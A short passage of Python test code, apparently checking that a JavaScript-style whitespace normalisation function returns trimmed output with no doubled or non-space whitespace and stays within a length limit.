        return
    assert js_trim(result) == result
    assert not re.search(f"[{JS_WHITESPACE}]{{2}}", result)
    assert not re.search(f"[{JS_WHITESPACE.replace(' ', '')}]", result)
    assert len(result) <= limit + 1
